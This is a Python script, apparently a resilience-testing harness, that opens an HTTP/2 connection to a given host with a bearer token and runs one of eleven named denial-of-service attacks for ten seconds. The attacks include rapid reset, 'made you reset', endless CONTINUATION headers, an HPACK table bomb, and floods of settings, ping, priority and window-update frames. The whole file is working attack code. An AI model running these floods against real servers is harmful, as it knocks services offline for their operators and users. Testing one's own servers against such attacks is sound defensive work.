"""Attacks by frames, made by libraries that know the protocol: attacks.py HOST:PORT PATH BEARER KIND. Each goes on until the server ends
the connection, or for ten seconds, and prints what came of it as a line of JSON."""

import itertools
import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe import frame as frames

ADDRESS, PATH, BEARER, KIND = sys.argv[1:]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BOUND = 10
ENCODER = Encoder()


def fields(method="GET", more=()):
    return [(":method", method), (":scheme", "http"), (":authority", "erp.example"), (":path", PATH),
            ("authorization", f"Bearer {BEARER}"), *more]


def head(stream, flags=("END_HEADERS", "END_STREAM"), **given):
    return frames.HeadersFrame(stream, ENCODER.encode(fields(**given)), flags=flags).serialize()


def reset(stream):
    return frames.RstStreamFrame(stream, error_code=8).serialize()


def window(stream, increment):
    frame = frames.WindowUpdateFrame(stream)
    frame.window_increment = increment
    return frame.serialize()


def pairs(after, **given):
    """Requests, each followed at once by something."""
    return (head(stream, **given) + after(stream) for stream in itertools.count(1, 2))


def mistakes(stream):
    """What makes a server reset a stream that it serves, in turn."""
    kinds = [
        lambda: window(stream, 0x7fffffff),
        lambda: window(stream, 0),
        lambda: frames.DataFrame(stream, b"after the end").serialize(),
        lambda: head(stream),
    ]
    return kinds[stream // 2 % len(kinds)]()


def bomb():
    # One large field in the table of the other side, named in every request after it.
    big = ("x-bomb", "b" * 3500)
    ENCODER.encode([big])
    return (head(stream, more=[big] * 3000) for stream in itertools.count(1, 2))


def endless_head():
    yield frames.HeadersFrame(1, ENCODER.encode(fields())).serialize()
    while True:
        yield frames.ContinuationFrame(1, ENCODER.encode([("x-a", "b")])).serialize()


def body(data, flags=()):
    yield head(1, flags=("END_HEADERS",), method="POST")
    while True:
        yield frames.DataFrame(1, data, flags=flags, pad_length=200).serialize()


def endlessly(frame):
    return itertools.repeat(frame.serialize())


SETTINGS = frames.SettingsFrame(0, settings={4: 1, 1: 0})
ATTACKS = {
    "rapid reset": lambda: pairs(reset),
    "made you reset": lambda: pairs(mistakes),
    "head without end": endless_head,
    "table bomb": bomb,
    "empty data": lambda: body(b""),
    "padding alone": lambda: body(b"", ("PADDED",)),
    "settings": lambda: endlessly(SETTINGS),
    "ping": lambda: endlessly(frames.PingFrame(0, b"12345678")),
    "priority": lambda: (frames.PriorityFrame(stream, depends_on=0, stream_weight=1).serialize()
                         for stream in itertools.cycle(range(1, 20001, 2))),
    "windows": lambda: itertools.repeat(window(0, 1)),
    "requests beyond the bound": lambda: (head(stream, flags=("END_HEADERS",), method="POST") for stream in itertools.count(1, 2)),
}


def attack(connection):
    sent, began = 0, time.monotonic()
    try:
        pieces = ATTACKS[KIND]()
        while time.monotonic() - began < BOUND:
            batch = list(itertools.islice(pieces, 50))
            connection.sendall(b"".join(batch))
            sent += len(batch)
    except OSError:
        pass
    return sent, time.monotonic() - began


def main():
    host, port = ADDRESS.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), BOUND)
    connection.sendall(PREFACE + frames.SettingsFrame(0).serialize())
    sent, seconds = attack(connection)
    print(json.dumps({"kind": KIND, "sent": sent, "seconds": round(seconds, 3), "ended": seconds < BOUND}))


main()
